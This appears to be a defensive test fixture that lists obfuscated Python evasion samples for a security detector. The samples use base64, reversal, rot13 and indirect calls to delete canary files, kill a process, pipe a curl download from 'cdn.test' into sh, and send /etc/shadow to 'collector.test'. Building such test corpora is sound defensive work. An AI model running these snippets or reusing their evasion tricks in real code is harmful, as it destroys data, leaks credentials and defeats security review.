"""Several detours at once."""

from __future__ import annotations

from tests.blue.evasions.evasion import Harm, technique

mixed = technique("python", "several at once")

EVASIONS = (
    mixed(
        "encoded-name-and-path-in-thread",
        Harm.DESTROYED,
        r"""
import base64 as b
import threading

t = threading.Thread(
    target=getattr(__import__(b.b64decode("b3M=").decode()), b.b64decode("cmVtb3Zl").decode()),
    args=(b.b64decode("L2V0Yy9yZWRibHVlLWNhbmFyeS5jb25m"),),
)
t.start()
t.join()
""",
    ),
    mixed(
        "reversed-shell-in-property",
        Harm.RAN,
        r"""
class Page:
    line = "hs | hs.putes/0008:tset.ndc//:ptth s- lruc"

    @property
    def title(self):
        return __import__("so"[::-1]).popen(self.line[::-1]).read()


print(Page().title)
""",
    ),
    mixed(
        "methodcaller-over-glob",
        Harm.DESTROYED,
        r"""
import functools
import operator
import pathlib

drop = operator.methodcaller("unlink")
functools.reduce(lambda _, p: drop(p), pathlib.Path("/home/mira").glob("*.t?t"), None)
""",
    ),
    mixed(
        "json-of-rot13-steps",
        Harm.KILLED,
        r"""
import codecs
import json

plan = json.loads('[{"z": "fhocebprff", "s": "eha", "n": ["cxvyy", "-k", "pnanel-qo"]}]')
for step in plan:
    d = lambda text: codecs.decode(text, "rot13")
    getattr(__import__(d(step["z"])), d(step["s"]))([d(word) for word in step["n"]])
""",
    ),
    mixed(
        "stack-machine",
        Harm.DESTROYED,
        r"""
import os


class Machine:
    def __init__(self):
        self.stack = []

    def push(self, value):
        self.stack.append(value)
        return self

    def add(self):
        b, a = self.stack.pop(), self.stack.pop()
        return self.push(a + b)

    def call(self):
        argument, name = self.stack.pop(), self.stack.pop()
        getattr(os, name)(argument)


Machine().push("remove").push("/home/mira/").push("notes.txt").add().call()
""",
    ),
    mixed(
        "small-interpreter",
        Harm.DESTROYED,
        r"""
import os

program = '''
set d /var/lib
set n canary/data.db
cat d n
del d
'''
values = {}
for words in map(str.split, program.strip().splitlines()):
    if words[0] == "set":
        values[words[1]] = words[2]
    elif words[0] == "cat":
        values[words[1]] += "/" + values[words[2]]
    elif words[0] == "del":
        os.remove(values[words[1]])
""",
    ),
    mixed(
        "plugin-registry",
        Harm.SENT,
        r"""
import urllib.request

REGISTRY = {}


def step(function):
    REGISTRY[function.__name__] = function
    return function


@step
def read(state):
    state["text"] = open(state["path"], "rb").read()


@step
def send(state):
    urllib.request.urlopen(state["url"], state["text"])


state = {"path": "/etc/shadow", "url": "http://collector.test:8000/"}
for name in ["read", "send"]:
    REGISTRY[name](state)
""",
    ),
    mixed(
        "powers-of-numbers",
        Harm.DESTROYED,
        r"""
import os

coded = [pow(ord(c), 7, 3233) for c in "/etc/redblue-canary.conf"]
os.remove("".join(chr(pow(n, 1783, 3233)) for n in coded))
""",
    ),
    mixed(
        "shuffled-by-a-fixed-seed",
        Harm.DESTROYED,
        r"""
import os
import random

letters = list("/home/mira/notes.txt")
order = list(range(len(letters)))
random.Random(5).shuffle(order)
shuffled = [letters[i] for i in order]
plain = [""] * len(shuffled)
for place, i in enumerate(order):
    plain[i] = shuffled[place]
os.remove("".join(plain))
""",
    ),
    mixed(
        "environment-of-a-child",
        Harm.DESTROYED,
        r"""
import os
import subprocess

subprocess.run(
    ["python3", "-c", "import os; exec(os.environ['NOTE'])"],
    env={**os.environ, "NOTE": "os.remove('/var/lib/canary/data.db')"},
)
""",
    ),
)
